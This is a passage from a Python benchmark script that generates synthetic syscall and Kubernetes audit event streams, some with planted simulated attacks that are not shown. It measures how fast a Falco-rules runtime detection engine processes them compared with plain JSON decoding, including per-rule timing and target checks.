            if ns and rng.random() < 0.5:
                ev["objectRef"]["namespace"] = rng.choice(NAMESPACES[:-1])
        now = self.world.tick()
        ev["auditID"] = _uuid(rng)
        ev["requestReceivedTimestamp"] = _rfc3339(now - 3_000_000)
        ev["stageTimestamp"] = _rfc3339(now)
        ev["timestamp"] = _rfc3339(now)[:19] + "Z"
        ev["sourceIPs"] = [f"10.0.{rng.randint(0, 3)}.{rng.randint(2, 250)}"]
        return ev

    def _user(self, *, system: bool) -> dict[str, Any]:
        name, groups = self.rng.choice(SYSTEM_USERS if system else HUMAN_USERS)
        return {"username": name, "groups": list(groups)}

    def _read(self) -> dict[str, Any]:
        """A get, list or watch: most of what an API server audits."""
        rng = self.rng
        resource, group = rng.choice(READ_RESOURCES)
        verb = rng.choices(("get", "list", "watch", "update", "patch"), (40, 25, 20, 10, 5))[0]
        namespace = rng.choice(NAMESPACES) if resource != "nodes" else None
        ref: dict[str, Any] = {"resource": resource, "apiVersion": "v1"}
        if group:
            ref["apiGroup"] = group
        if namespace:
            ref["namespace"] = namespace
        name = None
        if verb not in {"list", "watch"}:
            name = f"{resource[:-1]}-{_hex(rng, 5)}" if resource != "nodes" else "worker-1"
            ref["name"] = name
        prefix = f"/apis/{group}/v1" if group else "/api/v1"
        uri = prefix + (f"/namespaces/{namespace}" if namespace else "") + f"/{resource}"
        if name:
            uri += f"/{name}"
        if verb == "watch":
            uri += f"?resourceVersion={rng.randint(10**6, 10**7)}&watch=true"
        code = 200 if rng.random() < 0.97 else rng.choice((403, 404, 409))
        human = rng.random() < 0.03
        ev: dict[str, Any] = {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": "Metadata",
            "auditID": "",
            "stage": "ResponseStarted"
            if verb == "watch" and rng.random() < 0.5
            else "ResponseComplete",
            "requestURI": uri,
            "verb": verb,
            "user": self._user(system=not human),
            "sourceIPs": [],
            "userAgent": rng.choice(
                (
                    "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46",
                    "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46",
                    "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
                    "prometheus/2.55.1",
                )
            ),
            "objectRef": ref,
            "responseStatus": {"metadata": {}, "code": code},
            "requestReceivedTimestamp": "",
            "stageTimestamp": "",
            "annotations": {
                "authorization.k8s.io/decision": "allow" if code != 403 else "forbid",
                "authorization.k8s.io/reason": "RBAC: allowed by ClusterRoleBinding "
                '"system:controller"',
            },
        }
        return ev


# ---------------------------------------------------------------------------------------------
# The stream
# ---------------------------------------------------------------------------------------------


def rule_fields() -> frozenset[str]:
    """The syscall keys the loaded rules and outputs read (for ``--shape rules``)."""
    import re

    from kubeward.runtime.rules import load_rules_files

    ruleset = load_rules_files(list(RULES_FILES))
    names = set()
    pattern = re.compile(r"\b((?:evt|proc|thread|user|group|fd|container|k8s)\.[a-z0-9_.]+)")
    for rule in ruleset.rules.values():
        if rule.source == SYSCALL:
            names.update(pattern.findall(ruleset.expanded_condition(rule.name)))
            names.update(pattern.findall(rule.output))
    for name in ruleset.macros:
        names.update(pattern.findall(ruleset.expanded_macro(name)))
    # Keys a field is derived from (proc.duration <- proc.pid.ts and evt.time ...).
    names.update(("evt.time", "proc.pid.ts", "proc.ppid.ts", "evt.num", "proc.pid", "proc.ppid"))
    return frozenset(n.rstrip(".") for n in names)


def generate(
    path: Path, n: int, seed: int, *, audit_share: float, suspicious: int, shape: str
) -> dict[str, Any]:
    """Write the stream; returns what was planted (counts per kind and per source)."""
    rng = random.Random(seed)
    world = World(rng)
    audit = AuditGenerator(rng, world)
    keep = rule_fields() if shape == "rules" else None
    counts: Counter[str] = Counter()
    syscalls = 0
    attack_at = {}
    if suspicious:
        step = max(1, 1_000_000 // suspicious)
        for i, index in enumerate(range(step // 2, n, step)):
            attack_at[index] = ATTACKS[i % len(ATTACKS)]
    tmp = path.with_suffix(".tmp")
    dumps = orjson.dumps
    with open(tmp, "wb") as out:
        for i in range(n):
            kind = attack_at.get(i)
            if kind is not None:
                source, event = SYSCALL, world.attack(kind)
                counts["attack:" + kind] += 1
            elif rng.random() < audit_share:
                source, event = K8S, audit.event()
            else:
                r = rng.random()
                if r < 0.55:
                    event = world.open_event()
                elif r < 0.80:
                    event = world.exec_event()
                elif r < 0.99:
                    event = world.net_event()
                else:
                    event = world.listen_event()
                source = SYSCALL
            if source == SYSCALL:
                syscalls += 1
                event["evt.num"] = syscalls  # as Sensor._emit numbers what it queues
            if keep is not None and source == SYSCALL:
                event = {k: v for k, v in event.items() if k in keep}
            counts[source] += 1
            if source == SYSCALL:
                counts["syscall:" + event["evt.type"]] += 1
            out.write(dumps({"source": source, "event": event}))
            out.write(b"\n")
    tmp.replace(path)
    meta = {"version": VERSION, "events": n, "counts": dict(counts)}
    path.with_suffix(".meta.json").write_text(json.dumps(meta, indent=1, sort_keys=True))
    return meta


def stream(args: argparse.Namespace, shape: str) -> tuple[Path, dict[str, Any]]:
    """The cached stream for (events, seed, shape, mix), generated when missing or stale."""
    CACHE.mkdir(exist_ok=True)
    name = (
        f"runtime-events-{args.events}-seed{args.seed}-{shape}-audit{args.audit_share:g}"
        f"-susp{args.suspicious_per_million}-v{VERSION}.jsonl"
    )
    path = CACHE / name
    meta_path = path.with_suffix(".meta.json")
    if not args.rebuild and path.exists() and meta_path.exists():
        meta = json.loads(meta_path.read_text())
        if meta.get("version") == VERSION:
            return path, meta
    start = time.perf_counter()
    meta = generate(
        path,
        args.events,
        args.seed,
        audit_share=args.audit_share,
        suspicious=args.suspicious_per_million,
        shape=shape,
    )
    print(f"generated {path} in {time.perf_counter() - start:.1f} s", file=sys.stderr)
    return path, meta


# ---------------------------------------------------------------------------------------------
# Measuring
# ---------------------------------------------------------------------------------------------


def build_engine(*, stats: bool = False) -> Any:
    """The CLI's engine: Falco's stable rules and the k8s audit rules, the real registries,
    the CLI's event-time getters."""
    from kubeward.cli.runtime import _event_times
    from kubeward.runtime.engine import Engine
    from kubeward.runtime.fields.base import FieldRegistry
    from kubeward.runtime.fields.k8s_audit import K8sAuditFields
    from kubeward.runtime.fields.syscall import SyscallFields
    from kubeward.runtime.rules import load_rules_files

    ruleset = load_rules_files(list(RULES_FILES))
    registries: dict[str, FieldRegistry] = {K8S: K8sAuditFields(), SYSCALL: SyscallFields()}
    return Engine(
        ruleset, registries, stats=stats, hostname="bench-node", event_time=_event_times(registries)
    )


def rss_mb() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024


BLOCK_LINES = 50_000  # lines read into memory at a time (about 80 MB of the rules shape)


def blocks(path: Path) -> Iterator[list[bytes]]:
    """The stream's lines, a block at a time: reading the file is timed apart (see
    ``read_only``), so the figures are decoding and the engine, not this machine's disk."""
    with open(path, "rb") as f:
        while lines := list(itertools.islice(f, BLOCK_LINES)):
            yield lines


def read_only(path: Path) -> tuple[float, int]:
    """Seconds to read the lines into memory (not part of either figure), and the lines."""
    seconds = 0.0
    n = 0
    with open(path, "rb") as f:
        while True:
            start = time.perf_counter()
            lines = list(itertools.islice(f, BLOCK_LINES))
            seconds += time.perf_counter() - start
            if not lines:
                return seconds, n
            n += len(lines)


def decode_only(path: Path) -> tuple[float, int]:
    """Seconds to decode every line (in memory), and the number of lines."""
    loads = orjson.loads
    n = 0
    seconds = 0.0
    for lines in blocks(path):
        start = time.perf_counter()
        for line in lines:
            record = loads(line)
            record["source"]
            record["event"]
        seconds += time.perf_counter() - start
        n += len(lines)
    return seconds, n


def pipeline(path: Path, engine: Any) -> tuple[float, int, int]:
    """Seconds to decode every line (in memory) and run it through the engine, writing
    each alert as a JSON line to a null sink as ``kubeward runtime -o json`` does; lines;
    alerts."""
    from kubeward.runtime.outputs import LineWriter

    sink = LineWriter(open(os.devnull, "w", encoding="utf-8"), "json", owns_stream=True)  # noqa: SIM115
    write = sink.write
    loads = orjson.loads
    process = engine.process
    n = alerts = 0
    seconds = 0.0
    for lines in blocks(path):
        start = time.perf_counter()
        for line in lines:
            record = loads(line)
            for alert in process(record["source"], record["event"]):
                write(alert)
                alerts += 1
        seconds += time.perf_counter() - start
        n += len(lines)
    sink.close()
    return seconds, n, alerts


def sample(path: Path, limit: int) -> list[tuple[str, bytes]]:
    """The first ``limit`` lines with their source."""
    with open(path, "rb") as f:
        return [
            (orjson.loads(line)["source"], line) for _, line in zip(range(limit), f, strict=False)
        ]


def per_source(lines: list[tuple[str, bytes]], rounds: int) -> list[tuple[str, int, float, float]]:
    """(source, events, decode-only s, decode + engine s) per source, best of ``rounds``.

    Each event is run through the engine right after it is decoded, as in the pipeline: an
    event decoded long before is out of the CPU caches and costs the engine twice as much."""
    engine = build_engine()
    process = engine.process
    loads = orjson.loads
    by_source: dict[str, list[bytes]] = {}
    for source, line in lines:
        by_source.setdefault(source, []).append(line)
    out = []
    for source, raw in sorted(by_source.items()):
        decode_s = both_s = float("inf")
        for _ in range(rounds):
            start = time.perf_counter()
            for line in raw:
                loads(line)["event"]
            decode_s = min(decode_s, time.perf_counter() - start)
            start = time.perf_counter()
            for line in raw:
                process(source, loads(line)["event"])
            both_s = min(both_s, time.perf_counter() - start)
        out.append((source, len(raw), decode_s, both_s))
    return out


def rule_costs(lines: list[tuple[str, bytes]]) -> tuple[Any, float]:
    """Engine stats with per-rule timing over the sample."""
    engine = build_engine(stats=True)
    process = engine.process
    loads = orjson.loads
    start = time.perf_counter()
    for source, line in lines:
        process(source, loads(line)["event"])
    return engine.stats(), time.perf_counter() - start


def profile(path: Path, limit: int) -> None:
    """cProfile of the pipeline over the first ``limit`` lines. Generated conditions share one
    code location, so cProfile lumps their own time into ``Engine.process``; the per-rule
    timing of the main run is the view for them."""
    import cProfile
    import pstats

    engine = build_engine()
    with open(path, "rb") as f:
        lines = [line for _, line in zip(range(limit), f, strict=False)]
    loads = orjson.loads
    process = engine.process

    def run() -> None:
        for line in lines:
            record = loads(line)
            process(record["source"], record["event"])

    profiler = cProfile.Profile()
    profiler.runcall(run)
    pstats.Stats(profiler).sort_stats("tottime").print_stats(30)


def pin_one_core() -> str:
    try:
        cpu = min(os.sched_getaffinity(0))
        os.sched_setaffinity(0, {cpu})
        return f"pinned to CPU {cpu}"
    except (AttributeError, OSError):
        return "not pinned (no sched_setaffinity)"


@dataclass
class Result:
    shape: str
    path: Path
    meta: dict[str, Any]
    decode_s: float
    pipeline_s: float
    events: int
    alerts: int
    rss_mb: float
    read_s: float

    @property
    def decode_rate(self) -> float:
        return self.events / self.decode_s

    @property
    def pipeline_rate(self) -> float:
        return self.events / self.pipeline_s

    @property
    def ratio(self) -> float:
        return self.decode_s / self.pipeline_s


def measure(args: argparse.Namespace, shape: str) -> Result:
    path, meta = stream(args, shape)
    with open(path, "rb") as f:  # warm the page cache: both passes then read from memory
        while f.read(1 << 24):
            pass
    decode_s = pipe_s = read_s = float("inf")
    n = alerts = 0
    for _ in range(max(1, args.rounds)):
        read_s = min(read_s, read_only(path)[0])
        seconds, n = decode_only(path)
        decode_s = min(decode_s, seconds)
        seconds, n, alerts = pipeline(path, build_engine())
        pipe_s = min(pipe_s, seconds)
    return Result(shape, path, meta, decode_s, pipe_s, n, alerts, rss_mb(), read_s)


SHAPES = {
    "sensor": "every key the sensor writes",
    "rules": "only the keys the rules read",
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument(
        "--shape", choices=("sensor", "rules", "both"), default="both", help="event keys kept"
    )
    parser.add_argument("--audit-share", type=float, default=0.12)
    parser.add_argument("--suspicious-per-million", type=int, default=900)
    parser.add_argument("--rounds", type=int, default=2, help="best of N decode/pipeline passes")
    parser.add_argument("--sample", type=int, default=100_000, help="events of the side passes")
    parser.add_argument("--rebuild", action="store_true", help="regenerate the streams")
    parser.add_argument("--profile", action="store_true", help="cProfile the pipeline on a sample")
    args = parser.parse_args()

    shapes = ["sensor", "rules"] if args.shape == "both" else [args.shape]
    for shape in shapes:
        stream(args, shape)  # generate before pinning: the generator is not what is measured
    pinned = pin_one_core()
    if args.profile:
        profile(stream(args, shapes[0])[0], args.sample)
        return
    engine = build_engine()
    statuses = Counter(
        "enabled" if s == "enabled" else "not running" for s in engine.rule_status.values()
    )
    print(
        f"rules    : {len(engine.ruleset.rules)} from Falco's falco_rules.yaml + "
        f"k8s_audit_rules.yaml: {statuses['enabled']} enabled, {statuses['not running']} not "
        f"running ({len(engine.errors)} errors, {len(engine.warnings)} warnings)"
    )
    for message in engine.errors:
        print(f"           error: {message.item_name}: {message.message}")
    print(f"machine  : {pinned}, Python {sys.version.split()[0]}, orjson {orjson.__version__}")

    results = [measure(args, shape) for shape in shapes]
    for r in results:
        counts = r.meta["counts"]
        size = r.path.stat().st_size
        planted = {k.split(":", 1)[1]: v for k, v in counts.items() if k.startswith("attack:")}
        print(f"\nstream   : {r.path.name} ({SHAPES[r.shape]})")
        print(
            f"           {r.events} events, {size / 2**20:.0f} MB, "
            f"{size / r.events:.0f} bytes/line: "
            + ", ".join(f"{k} {v}" for k, v in sorted(counts.items()) if ":" not in k)
            + " ("
            + ", ".join(
                f"{k.split(':')[1]} {v}"
                for k, v in sorted(counts.items())
                if k.startswith("syscall:")
            )
            + ")"
        )
        print(
            f"           planted attacks: {sum(planted.values())} ("
            + ", ".join(f"{k} {v}" for k, v in sorted(planted.items()))
            + ")"
        )

    print(
        f"\n{'events/s, one core, one thread, best of ' + str(max(1, args.rounds)):44}"
        f"{'decode only':>12} {'pipeline':>10} {'ratio':>6} {'engine us':>10} {'alerts':>7} "
        f"{'peak RSS':>9}"
    )
    for r in results:
        engine_us = (r.pipeline_s - r.decode_s) / r.events * 1e6
        print(
            f"{r.shape + ' events (' + SHAPES[r.shape] + ')':44}{r.decode_rate:12.0f} "
            f"{r.pipeline_rate:10.0f} {r.ratio:6.3f} {engine_us:10.2f} {r.alerts:7d} "
            f"{r.rss_mb:7.0f} MB"
        )
    print(
        "(decode only: orjson.loads of each line; pipeline: orjson.loads + Engine.process + "
        "alerts as JSON lines to /dev/null; both on lines already read into memory, a block "
        f"of {BLOCK_LINES} at a time; ratio = pipeline / decode only; engine us = the "
        "difference per event)"
    )
    for r in results:
        read_us = r.read_s / r.events * 1e6
        with_read = r.events / (r.pipeline_s + r.read_s)
        print(
            f"reading the {r.shape} lines from the file, not counted above: {read_us:.2f} us "
            f"a line; counting it, the pipeline would be {with_read:.0f} events/s"
        )

    first = results[0]
    lines = sample(first.path, args.sample)
    print(
        f"\nper source ({first.shape} events, first {args.sample}, best of {max(1, args.rounds)}):"
    )
    print(
        f"  {'source':10} {'events':>7} {'decode ev/s':>12} {'pipeline ev/s':>14} "
        f"{'engine ev/s':>12} {'engine us':>10}"
    )
    for source, count, d, both in per_source(lines, max(1, args.rounds)):
        engine_s = max(both - d, 1e-9)
        print(
            f"  {source:10} {count:7d} {count / d:12.0f} {count / both:14.0f} "
            f"{count / engine_s:12.0f} {engine_s / count * 1e6:10.2f}"
        )
    stats, timed_s = rule_costs(lines)
    fired = sorted((r for r in stats.rules if r.matches), key=lambda r: (-r.matches, r.rule))
    print(f"\nrules that fired on that sample ({sum(r.matches for r in fired)} matches):")
    for r in fired:
        print(f"  {r.matches:7d}  {r.source:9} {r.rule}")
    total = sum(r.time_ns for r in stats.rules)
    print(
        f"\n10 most expensive rules (per-rule timing on, same sample, {timed_s:.2f} s; "
        f"all rules {total / 1e6:.0f} ms):"
    )
    print(f"  {'time ms':>9} {'share':>6} {'evals':>8} {'ns/eval':>8} {'matches':>7}  rule")
    for r in sorted(stats.rules, key=lambda r: -r.time_ns)[:10]:
        per = r.time_ns / r.evaluations if r.evaluations else 0
        print(
            f"  {r.time_ns / 1e6:9.1f} {r.time_ns / max(total, 1):6.1%} {r.evaluations:8d} "
            f"{per:8.0f} {r.matches:7d}  {r.rule}"
        )

    print()
    for r in results:
        checks = [
            ("events/s", r.pipeline_rate, TARGETS["events_per_s"]),
            ("x decode-only", r.ratio, TARGETS["ratio"]),
        ]
        line = f"targets ({r.shape} events): " + "; ".join(
            f"{name} {value:.3g} >= {goal:g} {'ok' if value >= goal else 'MISSED'}"
            for name, value, goal in checks
        )
        if r.decode_rate < TARGETS["events_per_s"]:
            # No engine can beat decoding its input: say so rather than leave a bare MISSED.
            line += (
                f" (decoding these {r.path.stat().st_size / r.events:.0f}-byte lines alone runs "
                f"at {r.decode_rate:.3g} events/s: out of reach for any engine)"
            )
        print(line)


if __name__ == "__main__":
    main()
